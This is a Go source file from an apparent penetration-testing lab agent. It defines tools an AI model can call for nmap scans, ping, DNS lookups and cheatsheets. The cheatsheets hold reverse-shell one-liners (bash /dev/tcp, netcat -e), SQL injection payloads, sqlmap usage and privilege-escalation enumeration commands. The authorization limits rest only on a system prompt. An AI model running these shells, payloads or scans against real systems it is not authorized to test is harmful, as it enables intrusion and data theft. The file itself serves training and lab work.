package agent

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os/exec"
	"strings"
	"time"

	"github.com/ashureev/hacklab-agent/internal/domain"
)

// ToolRunner executes the tools offered to the model. All tools are meant for
// authorized lab targets only; the system prompt instructs the model
// accordingly.
type ToolRunner struct {
	timeout time.Duration
}

// NewToolRunner creates a runner with the given per-invocation timeout.
func NewToolRunner(timeout time.Duration) *ToolRunner {
	if timeout <= 0 {
		timeout = 2 * time.Minute
	}
	return &ToolRunner{timeout: timeout}
}

// Definitions returns the tool schemas advertised to the model.
func (r *ToolRunner) Definitions() []ToolDefinition {
	return []ToolDefinition{
		{
			Name:        "nmap_scan",
			Description: "Scan an authorized lab target for open ports and services with nmap.",
			Parameters: map[string]interface{}{
				"type": "object",
				"properties": map[string]interface{}{
					"target": map[string]interface{}{"type": "string", "description": "IP address or hostname of the target"},
					"flags":  map[string]interface{}{"type": "string", "description": "nmap flags, e.g. '-sV' or '-sC -sV'"},
				},
				"required": []string{"target"},
			},
		},
		{
			Name:        "ping_check",
			Description: "Check whether a host is alive before running heavier scans.",
			Parameters: map[string]interface{}{
				"type": "object",
				"properties": map[string]interface{}{
					"target": map[string]interface{}{"type": "string", "description": "IP address or hostname to check"},
					"count":  map[string]interface{}{"type": "integer", "description": "number of ICMP packets, default 4"},
				},
				"required": []string{"target"},
			},
		},
		{
			Name:        "dns_lookup",
			Description: "Resolve DNS records (A, AAAA, MX, NS, TXT, CNAME) for a domain.",
			Parameters: map[string]interface{}{
				"type": "object",
				"properties": map[string]interface{}{
					"domain":      map[string]interface{}{"type": "string", "description": "domain name to query"},
					"record_type": map[string]interface{}{"type": "string", "description": "record type, default A"},
				},
				"required": []string{"domain"},
			},
		},
		{
			Name:        "get_cheatsheet",
			Description: "Fetch a quick reference guide. Topics: nmap, metasploit, sqlinjection, reverse-shell, privilege-escalation.",
			Parameters: map[string]interface{}{
				"type": "object",
				"properties": map[string]interface{}{
					"topic": map[string]interface{}{"type": "string", "description": "cheatsheet topic"},
				},
				"required": []string{"topic"},
			},
		},
	}
}

// Execute runs one tool call and returns its serialized result and execution
// status (success, error or timeout).
func (r *ToolRunner) Execute(ctx context.Context, call ToolCall) (json.RawMessage, string) {
	ctx, cancel := context.WithTimeout(ctx, r.timeout)
	defer cancel()

	var out map[string]interface{}
	switch call.Name {
	case "nmap_scan":
		out = r.nmapScan(ctx, call.Arguments)
	case "ping_check":
		out = r.pingCheck(ctx, call.Arguments)
	case "dns_lookup":
		out = r.dnsLookup(ctx, call.Arguments)
	case "get_cheatsheet":
		out = cheatsheet(call.Arguments)
	default:
		out = errResult(fmt.Sprintf("unknown tool %q", call.Name))
	}

	status := domain.ExecSuccess
	if s, _ := out["status"].(string); s != "success" {
		status = domain.ExecError
		if errors.Is(ctx.Err(), context.DeadlineExceeded) {
			status = domain.ExecTimeout
			out = errResult(fmt.Sprintf("tool %s exceeded the %s timeout", call.Name, r.timeout))
		}
	}

	data, err := json.Marshal(out)
	if err != nil {
		data = []byte(`{"status":"error","error_message":"failed to serialize tool result"}`)
		status = domain.ExecError
	}
	return data, status
}

func (r *ToolRunner) nmapScan(ctx context.Context, args string) map[string]interface{} {
	var p struct {
		Target string `json:"target"`
		Flags  string `json:"flags"`
	}
	if err := json.Unmarshal([]byte(args), &p); err != nil || p.Target == "" {
		return errResult("the 'target' parameter (IP or domain) is required")
	}
	if p.Flags == "" {
		p.Flags = "-sV"
	}

	cmdArgs := append(strings.Fields(p.Flags), p.Target)
	cmd := exec.CommandContext(ctx, "nmap", cmdArgs...)
	output, err := cmd.Output()
	if err != nil {
		var exitErr *exec.ExitError
		if errors.As(err, &exitErr) {
			return errResult(strings.TrimSpace(string(exitErr.Stderr)))
		}
		return errResult(fmt.Sprintf("failed to run nmap: %v", err))
	}

	return map[string]interface{}{
		"status":  "success",
		"command": "nmap " + strings.Join(cmdArgs, " "),
		"result":  string(output),
	}
}

func (r *ToolRunner) pingCheck(ctx context.Context, args string) map[string]interface{} {
	var p struct {
		Target string `json:"target"`
		Count  int    `json:"count"`
	}
	if err := json.Unmarshal([]byte(args), &p); err != nil || p.Target == "" {
		return errResult("the 'target' parameter is required")
	}
	if p.Count <= 0 {
		p.Count = 4
	}

	cmd := exec.CommandContext(ctx, "ping", "-c", fmt.Sprintf("%d", p.Count), p.Target)
	output, err := cmd.Output()
	alive := err == nil

	result := map[string]interface{}{
		"status":   "success",
		"target":   p.Target,
		"is_alive": alive,
	}
	if alive {
		result["result"] = string(output)
	} else {
		result["result"] = "host did not respond"
	}
	return result
}

func (r *ToolRunner) dnsLookup(ctx context.Context, args string) map[string]interface{} {
	var p struct {
		Domain     string `json:"domain"`
		RecordType string `json:"record_type"`
	}
	if err := json.Unmarshal([]byte(args), &p); err != nil || p.Domain == "" {
		return errResult("the 'domain' parameter is required")
	}
	recordType := strings.ToUpper(p.RecordType)
	if recordType == "" {
		recordType = "A"
	}

	var records []string
	var err error
	resolver := net.DefaultResolver

	switch recordType {
	case "A", "AAAA":
		var addrs []net.IP
		addrs, err = resolver.LookupIP(ctx, "ip", p.Domain)
		for _, a := range addrs {
			records = append(records, a.String())
		}
	case "MX":
		var mxs []*net.MX
		mxs, err = resolver.LookupMX(ctx, p.Domain)
		for _, mx := range mxs {
			records = append(records, fmt.Sprintf("%d %s", mx.Pref, mx.Host))
		}
	case "NS":
		var nss []*net.NS
		nss, err = resolver.LookupNS(ctx, p.Domain)
		for _, ns := range nss {
			records = append(records, ns.Host)
		}
	case "TXT":
		records, err = resolver.LookupTXT(ctx, p.Domain)
	case "CNAME":
		var cname string
		cname, err = resolver.LookupCNAME(ctx, p.Domain)
		records = append(records, cname)
	default:
		return errResult(fmt.Sprintf("unsupported record type %q", recordType))
	}
	if err != nil {
		return errResult(fmt.Sprintf("lookup failed: %v", err))
	}

	return map[string]interface{}{
		"status":      "success",
		"domain":      p.Domain,
		"record_type": recordType,
		"records":     records,
	}
}

func cheatsheet(args string) map[string]interface{} {
	var p struct {
		Topic string `json:"topic"`
	}
	if err := json.Unmarshal([]byte(args), &p); err != nil || p.Topic == "" {
		return errResult("the 'topic' parameter is required")
	}

	content, ok := cheatsheets[strings.ToLower(p.Topic)]
	if !ok {
		topics := make([]string, 0, len(cheatsheets))
		for t := range cheatsheets {
			topics = append(topics, t)
		}
		return errResult(fmt.Sprintf("unknown topic %q, available: %s", p.Topic, strings.Join(topics, ", ")))
	}

	return map[string]interface{}{
		"status": "success",
		"topic":  strings.ToLower(p.Topic),
		"result": content,
	}
}

func errResult(msg string) map[string]interface{} {
	return map[string]interface{}{
		"status":        "error",
		"error_message": msg,
	}
}

var cheatsheets = map[string]string{
	"nmap": `Basic scan: nmap -sV <target>
All ports: nmap -p- <target>
Scripts + versions: nmap -sC -sV <target>
UDP top ports: nmap -sU --top-ports 100 <target>
Aggressive: nmap -A <target>`,
	"metasploit": `Start: msfconsole
Search: search <term>
Use module: use <path>
Show options: show options
Set option: set RHOSTS <target>
Run: exploit / run`,
	"sqlinjection": `Detection: ' OR '1'='1
Union columns: ' ORDER BY n--
Union select: ' UNION SELECT 1,2,3--
DB version: ' UNION SELECT @@version--
sqlmap: sqlmap -u "<url>" --batch --dbs`,
	"reverse-shell": `Bash: bash -i >& /dev/tcp/<lhost>/<lport> 0>&1
Netcat: nc -e /bin/sh <lhost> <lport>
Python: python3 -c 'import socket,subprocess,os;...'
Listener: nc -lvnp <lport>
Upgrade: python3 -c 'import pty;pty.spawn("/bin/bash")'`,
	"privilege-escalation": `SUID binaries: find / -perm -4000 2>/dev/null
Sudo rights: sudo -l
Cron jobs: cat /etc/crontab
Kernel: uname -a
Enumeration: linpeas.sh / linenum.sh`,
}
